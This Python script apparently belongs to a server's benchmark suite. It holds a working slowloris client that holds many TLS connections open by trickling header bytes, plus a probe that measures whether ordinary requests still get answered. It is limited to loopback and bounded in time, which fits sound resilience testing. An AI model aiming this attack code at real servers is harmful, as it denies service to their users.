#!/usr/bin/env python3
"""The clients of bench/slowloris.sh.

  slowloris_clients.py attack PORT CONNS SECONDS
      CONNS TLS connections that each send a request line and then one header byte a second and
      never finish; every connection the server closes is opened again at once. Prints "ready"
      once all are open, and "attack opened=N" at the end. Stops after SECONDS.
  slowloris_clients.py probe PORT SECONDS INTERVAL TIMEOUT AUTH PATH
      An ordinary client: every INTERVAL seconds a new TLS connection and one GET; a request counts
      as answered when a 200 arrives within TIMEOUT seconds of starting it. Prints
      "probe made=N answered=M median=S max=S".

Loopback only; every loop is bounded by its SECONDS."""
import selectors, socket, ssl, sys, time

CTX = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CTX.check_hostname = False
CTX.verify_mode = ssl.CERT_NONE  # the certificate is throw-away; the specs check verification

TRICKLE = b"X-Slow: " + b"a" * 4000  # never ends within the run: a byte a second


def open_slow(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=2)
    t = CTX.wrap_socket(s, server_hostname="localhost")
    t.sendall(b"GET /rolie/servicedocument HTTP/1.1\r\nHost: localhost\r\n")
    t.setblocking(False)
    return t


def attack(port, conns, seconds):
    end = time.monotonic() + seconds
    opened = 0
    socks = {}  # socket -> bytes of TRICKLE sent
    while len(socks) < conns and time.monotonic() < end:
        try:
            socks[open_slow(port)] = 0
            opened += 1
        except OSError:
            time.sleep(0.01)
    print("ready", flush=True)
    sel = selectors.DefaultSelector()
    for s in socks:
        sel.register(s, selectors.EVENT_READ)
    next_byte = time.monotonic() + 1
    while time.monotonic() < end:
        # whatever the server sent (an answer, or its close) ends that connection
        for key, _ in sel.select(timeout=max(0, min(next_byte, end) - time.monotonic())):
            s = key.fileobj
            try:
                if s.recv(4096):
                    continue
            except ssl.SSLWantReadError:
                continue
            except OSError:
                pass
            sel.unregister(s)
            del socks[s]
            s.close()
        now = time.monotonic()
        if now >= next_byte:
            next_byte = now + 1
            for s in list(socks):
                n = socks[s]
                try:
                    s.send(TRICKLE[n:n + 1])
                    socks[s] = n + 1
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    pass
                except OSError:
                    sel.unregister(s)
                    del socks[s]
                    s.close()
        # open again what was closed, as a slowloris client does
        while len(socks) < conns and time.monotonic() < end:
            try:
                s = open_slow(port)
            except OSError:
                break
            socks[s] = 0
            sel.register(s, selectors.EVENT_READ)
            opened += 1
    for s in socks:
        s.close()
    print("attack opened=%d" % opened, flush=True)


def probe(port, seconds, interval, timeout, auth, path):
    made = answered = 0
    times = []
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        t0 = time.monotonic()
        made += 1
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
            s = CTX.wrap_socket(s, server_hostname="localhost")
            s.settimeout(max(0.01, timeout - (time.monotonic() - t0)))
            s.sendall(("GET %s HTTP/1.1\r\nHost: localhost\r\nAuthorization: Basic %s\r\n"
                       "Connection: close\r\n\r\n" % (path, auth)).encode())
            got = b""
            while b"\r\n" not in got:
                d = s.recv(4096)
                if not d:
                    break
                got += d
            s.close()
            took = time.monotonic() - t0
            if got.startswith(b"HTTP/1.1 200 ") and took <= timeout:
                answered += 1
                times.append(took)
        except OSError:
            pass
        time.sleep(max(0, t0 + interval - time.monotonic()))
    times.sort()
    median = times[len(times) // 2] if times else 0
    print("probe made=%d answered=%d median=%.3f max=%.3f"
          % (made, answered, median, times[-1] if times else 0), flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "attack":
        attack(int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]))
    elif sys.argv[1] == "probe":
        probe(int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5]),
              sys.argv[6], sys.argv[7])
    else:
        sys.exit("usage: slowloris_clients.py attack|probe ...")
